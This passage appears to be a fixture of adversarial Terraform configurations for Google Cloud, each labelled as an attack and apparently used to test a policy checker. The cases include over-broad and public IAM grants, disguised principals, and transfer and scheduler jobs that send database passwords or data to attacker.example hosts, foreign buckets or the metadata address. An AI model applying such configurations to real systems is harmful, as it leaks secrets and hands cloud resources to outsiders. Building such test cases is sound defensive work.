# attack: a copier of every database, without a condition
resource "google_project_iam_member" "db0" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = google_service_account.mine.member
}
# attack: a condition that is always true beside the right one
resource "google_project_iam_member" "db1" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\" || true"
  }
}
# attack: a condition that is true
resource "google_project_iam_member" "db2" {
  project = var.project_id
  role   = "roles/datastore.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "true"
  }
}
# attack: a condition that a type decides
resource "google_project_iam_member" "db3" {
  project = var.project_id
  role   = "roles/datastore.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.type == \"firestore.googleapis.com/Database\""
  }
}
# attack: every database that begins so
resource "google_project_iam_member" "db4" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name.startsWith(\"projects/${var.project_id}/databases/\")"
  }
}
# attack: the project's own database
resource "google_project_iam_member" "db5" {
  project = var.project_id
  role   = "roles/datastore.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/(default)\""
  }
}
# attack: another deployment's database
resource "google_project_iam_member" "db6" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/docs-zzzzz\""
  }
}
# attack: a database of another project
resource "google_project_iam_member" "db7" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/attacker-prj/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: the instance's condition for a database
resource "google_project_iam_member" "db8" {
  project = var.project_id
  role   = "roles/cloudsql.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: the database's role with an instance's condition
resource "google_project_iam_member" "db9" {
  project = var.project_id
  role   = "roles/datastore.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/instances/${google_sql_database_instance.db.name}\""
  }
}
# attack: everything but the own database
resource "google_project_iam_member" "db10" {
  project = var.project_id
  role   = "roles/cloudsql.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name != \"projects/${var.project_id}/instances/${google_sql_database_instance.db.name}\""
  }
}
# attack: a condition that ends in a second line
resource "google_project_iam_member" "db11" {
  project = var.project_id
  role   = "roles/cloudsql.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/instances/${google_sql_database_instance.db.name}\"\n|| true"
  }
}
# attack: a condition with a comment behind
resource "google_project_iam_member" "db12" {
  project = var.project_id
  role   = "roles/cloudsql.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/instances/${google_sql_database_instance.db.name}\" // and all others"
  }
}
# attack: a condition of two databases in one text
resource "google_project_iam_member" "db13" {
  project = var.project_id
  role   = "roles/cloudsql.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/instances/a\" || resource.name == \"projects/${var.project_id}/instances/${google_sql_database_instance.db.name}\""
  }
}
# attack: a condition that only apply can tell
resource "google_project_iam_member" "db14" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${random_string.r.result}\""
  }
}
# attack: a condition with a path that goes up
resource "google_project_iam_member" "db15" {
  project = var.project_id
  role   = "roles/cloudsql.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/instances/../${google_sql_database_instance.db.name}\""
  }
}
# attack: a larger role with the small role's condition
resource "google_project_iam_member" "db16" {
  project = var.project_id
  role   = "roles/cloudsql.admin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/instances/${google_sql_database_instance.db.name}\""
  }
}
# attack: an owner of databases with the condition
resource "google_project_iam_member" "db17" {
  project = var.project_id
  role   = "roles/datastore.owner"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: an editor of the project with the condition
resource "google_project_iam_member" "db18" {
  project = var.project_id
  role   = "roles/editor"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a role in other letters
resource "google_project_iam_member" "db19" {
  project = var.project_id
  role   = "roles/Datastore.importExportAdmin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a role with a letter that looks alike
resource "google_project_iam_member" "db20" {
  project = var.project_id
  role   = "roles/dаtastore.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a role of one's own making
resource "google_project_iam_member" "db21" {
  project = var.project_id
  role   = "projects/demo-project/roles/cloudsql.viewer"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/instances/${google_sql_database_instance.db.name}\""
  }
}
# attack: a role that a function puts together
resource "google_project_iam_member" "db22" {
  project = var.project_id
  role   = join("/", ["roles", "datastore.owner"])
  member = google_service_account.mine.member
}
# attack: the same in another project
resource "google_project_iam_member" "db_other" {
  project = "attacker-prj"
  role   = "roles/datastore.importExportAdmin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a copier from another project
resource "google_project_iam_member" "dbm0" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = local.partner
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a copier whom nobody names
resource "google_project_iam_member" "dbm1" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = local.stranger
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: everybody copies the database
resource "google_project_iam_member" "dbm2" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "allUsers"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: everybody who has an account copies
resource "google_project_iam_member" "dbm3" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "allAuthenticatedUsers"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a person whom nobody names looks at instances
resource "google_project_iam_member" "dbm4" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "user:eve@attacker.example"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a person whom the plan names copies the database
resource "google_project_iam_member" "dbm5" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "group:staff@example.com"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: all owners of the project
resource "google_project_iam_member" "dbm6" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "projectOwner:demo-project"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: Google's own account for transfers copies databases
resource "google_project_iam_member" "dbm7" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = data.google_storage_transfer_project_service_account.copies.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: an account that only apply can tell
resource "google_project_iam_member" "dbm8" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "serviceAccount:${random_string.r.result}@demo-project.iam.gserviceaccount.com"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: an account by its unique id
resource "google_project_iam_member" "dbm9" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "serviceAccount:${google_service_account.mine.unique_id}"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: a principal of another pool
resource "google_project_iam_member" "dbm10" {
  project = var.project_id
  role   = "roles/datastore.importExportAdmin"
  member = "principalSet://iam.googleapis.com/projects/999/locations/global/workloadIdentityPools/evil/*"
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
  }
}
# attack: one grant for each of two databases, one of them not one's own
resource "google_project_iam_member" "each_db" {
  for_each = toset(["docs${var.name_suffix}", "(default)"])
  project  = var.project_id
  role     = "roles/datastore.viewer"
  member   = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name == \"projects/${var.project_id}/databases/${each.value}\""
  }
}
# attack: a condition that is made for nothing
resource "google_project_iam_member" "dynamic_condition" {
  project = var.project_id
  role    = "roles/datastore.importExportAdmin"
  member  = google_service_account.mine.member
  dynamic "condition" {
    for_each = var.region == "" ? [1] : []
    content {
      title      = "one"
      expression = "resource.name == \"projects/${var.project_id}/databases/${google_firestore_database.docs.name}\""
    }
  }
}
# attack: a larger role by the number
resource "google_project_iam_member" "counted" {
  count   = 2
  project = var.project_id
  role    = ["roles/logging.logWriter", "roles/datastore.owner"][count.index]
  member  = google_service_account.mine.member
}
# attack: records of every zone of the project
resource "google_project_iam_member" "zone0" {
  project = var.project_id
  role   = "roles/dns.admin"
  member = google_service_account.mine.member
}
# attack: records of every zone, by a condition
resource "google_project_iam_member" "zone1" {
  project = var.project_id
  role   = "roles/dns.admin"
  member = google_service_account.mine.member
  condition {
    title      = "one"
    expression = "resource.name.endsWith(\"zone-abcde\")"
  }
}
# attack: another deployment's zone
resource "google_dns_managed_zone_iam_member" "zone2" {
  managed_zone = "zone-zzzzz"
  role   = "roles/dns.admin"
  member = google_service_account.mine.member
}
# attack: a zone of another project
resource "google_dns_managed_zone_iam_member" "zone3" {
  managed_zone = "projects/attacker-prj/managedZones/zone-abcde"
  role   = "roles/dns.admin"
  member = google_service_account.mine.member
}
# attack: an owner of the zone
resource "google_dns_managed_zone_iam_member" "zone4" {
  managed_zone = google_dns_managed_zone.zone.name
  role   = "roles/owner"
  member = google_service_account.mine.member
}
# attack: a named account of another project changes records
resource "google_dns_managed_zone_iam_member" "zonem0" {
  managed_zone = google_dns_managed_zone.zone.name
  role   = "roles/dns.admin"
  member = local.partner
}
# attack: a stranger changes records
resource "google_dns_managed_zone_iam_member" "zonem1" {
  managed_zone = google_dns_managed_zone.zone.name
  role   = "roles/dns.admin"
  member = local.stranger
}
# attack: everybody changes records
resource "google_dns_managed_zone_iam_member" "zonem2" {
  managed_zone = google_dns_managed_zone.zone.name
  role   = "roles/dns.admin"
  member = "allUsers"
}
# attack: a person changes records
resource "google_dns_managed_zone_iam_member" "zonem3" {
  managed_zone = google_dns_managed_zone.zone.name
  role   = "roles/dns.admin"
  member = "group:staff@example.com"
}
# attack: Google's account for transfers changes records
resource "google_dns_managed_zone_iam_member" "zonem4" {
  managed_zone = google_dns_managed_zone.zone.name
  role   = "roles/dns.admin"
  member = data.google_storage_transfer_project_service_account.copies.member
}
# attack: a zone whose project is said to be another
resource "google_dns_managed_zone_iam_member" "zone_project" {
  project      = "attacker-prj"
  managed_zone = google_dns_managed_zone.zone.name
  role         = "roles/dns.admin"
  member       = google_service_account.mine.member
}
# attack: the named account reads what it was to add to
resource "google_storage_bucket_iam_member" "st0" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectViewer"
  member = local.partner
}
# attack: the named account changes what it was to add to
resource "google_storage_bucket_iam_member" "st1" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectUser"
  member = local.partner
}
# attack: the named account administers the bucket
resource "google_storage_bucket_iam_member" "st2" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.admin"
  member = local.partner
}
# attack: the named account reads a dataset that nobody named
resource "google_bigquery_dataset_iam_member" "st3" {
  dataset_id = google_bigquery_dataset.data.dataset_id
  role   = "roles/bigquery.dataViewer"
  member = local.partner
}
# attack: the named account changes a dataset
resource "google_bigquery_dataset_iam_member" "st4" {
  dataset_id = google_bigquery_dataset.data.dataset_id
  role   = "roles/bigquery.dataEditor"
  member = local.partner
}
# attack: a stranger adds to the bucket
resource "google_storage_bucket_iam_member" "st5" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = local.stranger
}
# attack: an account that ends like the named one
resource "google_storage_bucket_iam_member" "st6" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "serviceAccount:loader@partner-prj.iam.gserviceaccount.com.attacker.example"
}
# attack: an account whose project looks like the named one
resource "google_storage_bucket_iam_member" "st7" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "serviceAccount:loader@partner-prj1.iam.gserviceaccount.com"
}
# attack: an account with a letter that looks alike
resource "google_storage_bucket_iam_member" "st8" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "serviceAccount:lоader@partner-prj.iam.gserviceaccount.com"
}
# attack: an account in capital letters
resource "google_storage_bucket_iam_member" "st9" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "serviceAccount:${upper("loader@partner-prj")}.iam.gserviceaccount.com"
}
# attack: the named account as a person
resource "google_storage_bucket_iam_member" "st10" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "user:loader@partner-prj.iam.gserviceaccount.com"
}
# attack: the named account by its deleted name
resource "google_storage_bucket_iam_member" "st11" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "deleted:serviceAccount:loader@partner-prj.iam.gserviceaccount.com?uid=1"
}
# attack: a bucket that is not one's own
resource "google_storage_bucket_iam_member" "st12" {
  bucket = "other-zzzzz"
  role   = "roles/storage.objectCreator"
  member = local.partner
}
# attack: a secret for the named account
resource "google_secret_manager_secret_iam_member" "st13" {
  secret_id = google_secret_manager_secret.keys.id
  role   = "roles/secretmanager.secretAccessor"
  member = local.partner
}
# attack: messages for the named account
resource "google_pubsub_topic_iam_member" "st14" {
  topic = google_pubsub_topic.events.id
  role   = "roles/pubsub.subscriber"
  member = local.partner
}
# attack: the named account acts as an own account
resource "google_service_account_iam_member" "st15" {
  service_account_id = google_service_account.mine.name
  role   = "roles/iam.serviceAccountUser"
  member = local.partner
}
# attack: the named account makes tokens of an own account
resource "google_service_account_iam_member" "st16" {
  service_account_id = google_service_account.mine.name
  role   = "roles/iam.serviceAccountTokenCreator"
  member = local.partner
}
# attack: an own account makes tokens of another
resource "google_service_account_iam_member" "st17" {
  service_account_id = google_service_account.job.name
  role   = "roles/iam.serviceAccountTokenCreator"
  member = google_service_account.mine.member
}
# attack: the named account comes in as a pipeline
resource "google_service_account_iam_member" "st18" {
  service_account_id = google_service_account.mine.name
  role   = "roles/iam.workloadIdentityUser"
  member = local.partner
}
# attack: the default account of the project adds
resource "google_storage_bucket_iam_member" "st19" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "serviceAccount:${data.google_project.this.number}-compute@developer.gserviceaccount.com"
}
# attack: everybody adds to the bucket
resource "google_storage_bucket_iam_member" "st20" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "allUsers"
}
# attack: a whole domain adds
resource "google_storage_bucket_iam_member" "st21" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "domain:example.com"
}
# attack: a person whom nobody names adds
resource "google_storage_bucket_iam_member" "st22" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "user:eve@attacker.example"
}
# attack: who adds is known later
resource "google_storage_bucket_iam_member" "st23" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "serviceAccount:${random_string.r.result}@partner-prj.iam.gserviceaccount.com"
}
# attack: a database of another project writes its copy
resource "google_storage_bucket_iam_member" "st24" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = "serviceAccount:p999-zzz@gcp-sa-cloud-sql.iam.gserviceaccount.com"
}
# attack: the bucket's owner by a legacy role
resource "google_storage_bucket_iam_member" "st25" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.legacyBucketOwner"
  member = google_service_account.mine.member
}
# attack: the named account on the project
resource "google_project_iam_member" "st_project" {
  project = var.project_id
  role   = "roles/storage.objectCreator"
  member = local.partner
}
# attack: the named account and a stranger from one list
resource "google_storage_bucket_iam_member" "each_account" {
  for_each = toset([local.partner, local.stranger])
  bucket   = google_storage_bucket.files.name
  role     = "roles/storage.objectCreator"
  member   = each.value
}
# attack: a role for each account, one of them larger
resource "google_storage_bucket_iam_member" "each_role" {
  for_each = { "roles/storage.objectCreator" = local.partner, "roles/storage.objectAdmin" = local.partner }
  bucket   = google_storage_bucket.files.name
  role     = each.key
  member   = each.value
}
# attack: a stranger put together from pieces
resource "google_storage_bucket_iam_member" "templated" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = format("serviceAccount:%s@%s.iam.gserviceaccount.com", "thief", "attacker-prj")
}
# attack: a stranger behind base64
resource "google_storage_bucket_iam_member" "encoded" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectCreator"
  member = base64decode("c2VydmljZUFjY291bnQ6dGhpZWZAYXR0YWNrZXItcHJqLmlhbS5nc2VydmljZWFjY291bnQuY29t")
}
# attack: the named account on every bucket there is
resource "google_storage_bucket_iam_member" "each_bucket" {
  for_each = toset([google_storage_bucket.files.name, "other-zzzzz"])
  bucket   = each.value
  role     = "roles/storage.objectCreator"
  member   = local.partner
}
# attack: the transfers' account reads everything of the project
resource "google_project_iam_member" "ta0" {
  project = var.project_id
  role   = "roles/storage.objectUser"
  member = data.google_storage_transfer_project_service_account.copies.member
}
# attack: the transfers' account administers a bucket
resource "google_storage_bucket_iam_member" "ta1" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectAdmin"
  member = data.google_storage_transfer_project_service_account.copies.member
}
# attack: the transfers' account of another project
resource "google_storage_bucket_iam_member" "ta2" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectUser"
  member = local.agent
}
# attack: the transfers' account by a number of one's own
resource "google_storage_bucket_iam_member" "ta3" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectUser"
  member = "serviceAccount:project-${random_string.r.result}@storage-transfer-service.iam.gserviceaccount.com"
}
# attack: the transfers' account publishes
resource "google_pubsub_topic_iam_member" "ta4" {
  topic = google_pubsub_topic.events.id
  role   = "roles/pubsub.publisher"
  member = data.google_storage_transfer_project_service_account.copies.member
}
# attack: the transfers' account acts as an own account
resource "google_service_account_iam_member" "ta5" {
  service_account_id = google_service_account.mine.name
  role   = "roles/iam.serviceAccountTokenCreator"
  member = data.google_storage_transfer_project_service_account.copies.member
}
# attack: the transfers' account and a stranger by a choice
resource "google_storage_bucket_iam_member" "ta6" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectUser"
  member = var.region == "" ? data.google_storage_transfer_project_service_account.copies.member : local.agent
}
# attack: Storage's own account gets at files
resource "google_storage_bucket_iam_member" "ta7" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectUser"
  member = "serviceAccount:${data.google_storage_project_service_account.storage.email_address}"
}
# attack: a bucket of another deployment for the transfers' account
resource "google_storage_bucket_iam_member" "ta8" {
  bucket = "other-zzzzz"
  role   = "roles/storage.objectUser"
  member = data.google_storage_transfer_project_service_account.copies.member
}
# attack: a secret of another deployment for the transfers' account
resource "google_secret_manager_secret_iam_member" "ta9" {
  secret_id = "projects/demo-project/secrets/keys-zzzzz"
  role   = "roles/secretmanager.secretAccessor"
  member = data.google_storage_transfer_project_service_account.copies.member
}
# attack: into somebody's bucket
resource "google_storage_transfer_job" "t0" {
  name        = "transferJobs/t0${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = "attacker-bucket"
    }
  }
}
# attack: out of another deployment's bucket
resource "google_storage_transfer_job" "t1" {
  name        = "transferJobs/t1${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = "other-zzzzz"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: what is missing at the source is deleted
resource "google_storage_transfer_job" "t2" {
  name        = "transferJobs/t2${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
    transfer_options {
      delete_objects_unique_in_sink = true
    }
  }
}
# attack: the source is emptied
resource "google_storage_transfer_job" "t3" {
  name        = "transferJobs/t3${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = google_storage_bucket.private.name
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
    transfer_options {
      delete_objects_from_source_after_transfer = true
    }
  }
}
# attack: whether the source is emptied is known later
resource "google_storage_transfer_job" "t4" {
  name        = "transferJobs/t4${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = google_storage_bucket.private.name
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
    transfer_options {
      delete_objects_from_source_after_transfer = random_string.r.result != ""
    }
  }
}
# attack: a list inside of Google's network
resource "google_storage_transfer_job" "t5" {
  name        = "transferJobs/t5${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "http://169.254.169.254/computeMetadata/v1/"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password in the address of a list
resource "google_storage_transfer_job" "t6" {
  name        = "transferJobs/t6${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://attacker.example/${random_password.db.result}"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password as the name of a bucket at AWS
resource "google_storage_transfer_job" "t7" {
  name        = "transferJobs/t7${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name = random_password.db.result
      role_arn    = "arn:aws:iam::123456789012:role/copies"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password as a path at AWS
resource "google_storage_transfer_job" "t8" {
  name        = "transferJobs/t8${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name = "attacker"
      path        = "${random_password.db.result}/"
      role_arn    = "arn:aws:iam::123456789012:role/copies"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password as an account of Azure
resource "google_storage_transfer_job" "t9" {
  name        = "transferJobs/t9${var.name_suffix}"
  description = "copies"
  transfer_spec {
    azure_blob_storage_data_source {
      storage_account    = lower(random_password.db.result)
      container          = "c"
      credentials_secret = google_secret_manager_secret.keys.id
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a secret of another deployment as key
resource "google_storage_transfer_job" "t10" {
  name        = "transferJobs/t10${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name        = "theirs"
      credentials_secret = "projects/demo-project/secrets/keys-zzzzz"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: keys in the file
resource "google_storage_transfer_job" "t11" {
  name        = "transferJobs/t11${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name = "theirs"
      aws_access_key {
        access_key_id     = "AKIAIOSFODNN7EXAMPLE"
        secret_access_key = "wJalrXUtnFEMI"
      }
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: as an account of one's own choice
resource "google_storage_transfer_job" "t12" {
  name        = "transferJobs/t12${var.name_suffix}"
  description = "copies"
  service_account = "infraai-tf-apply@demo-project.iam.gserviceaccount.com"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: in another project
resource "google_storage_transfer_job" "t13" {
  name        = "transferJobs/t13${var.name_suffix}"
  description = "copies"
  project = "attacker-prj"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: to a machine of somebody's
resource "google_storage_transfer_job" "t14" {
  name        = "transferJobs/t14${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = google_storage_bucket.private.name
    }
    posix_data_sink {
      root_directory = "/"
    }
    sink_agent_pool_name = "projects/attacker-prj/agentPools/x"
  }
}
# attack: whenever something comes, by somebody's queue
resource "google_storage_transfer_job" "t15" {
  name        = "transferJobs/t15${var.name_suffix}"
  description = "copies"
  event_stream {
    name = "projects/attacker-prj/subscriptions/x"
  }
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: told to somebody's topic
resource "google_storage_transfer_job" "t16" {
  name        = "transferJobs/t16${var.name_suffix}"
  description = "copies"
  notification_config {
    pubsub_topic   = "projects/attacker-prj/topics/x"
    payload_format = "JSON"
  }
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a transfer by another deployment's name
resource "google_storage_transfer_job" "t17" {
  name        = "transferJobs/nightly-zzzzz"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: the sink is chosen by a block that is made
resource "google_storage_transfer_job" "t18" {
  name        = "transferJobs/t18${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    dynamic "gcs_data_sink" {
      for_each = ["attacker-bucket"]
      content {
        bucket_name = gcs_data_sink.value
      }
    }
  }
}
# attack: an address outside that nobody names
resource "google_cloud_scheduler_job" "o0" {
  name     = "o0${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://attacker.example/nightly"
  }
}
# attack: the named host with another path
resource "google_cloud_scheduler_job" "o1" {
  name     = "o1${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly/../steal"
  }
}
# attack: a host that begins like the named one
resource "google_cloud_scheduler_job" "o2" {
  name     = "o2${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com.attacker.example/nightly"
  }
}
# attack: a name before the host
resource "google_cloud_scheduler_job" "o3" {
  name     = "o3${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com@attacker.example/nightly"
  }
}
# attack: the named address with a query
resource "google_cloud_scheduler_job" "o4" {
  name     = "o4${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly?d=${random_password.db.result}"
  }
}
# attack: the named address without a lock
resource "google_cloud_scheduler_job" "o5" {
  name     = "o5${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "http://hooks.example.com/nightly"
  }
}
# attack: a token of one's own goes along
resource "google_cloud_scheduler_job" "o6" {
  name     = "o6${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly"
    oidc_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: a key of Google's goes along
resource "google_cloud_scheduler_job" "o7" {
  name     = "o7${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly"
    oauth_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: a password in what is sent
resource "google_cloud_scheduler_job" "o8" {
  name     = "o8${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = base64encode(random_password.db.result)
  }
}
# attack: a password in what is sent, by a local
resource "google_cloud_scheduler_job" "o9" {
  name     = "o9${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = local.sent
  }
}
# attack: a password as what kind it is
resource "google_cloud_scheduler_job" "o10" {
  name     = "o10${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri     = "https://hooks.example.com/nightly"
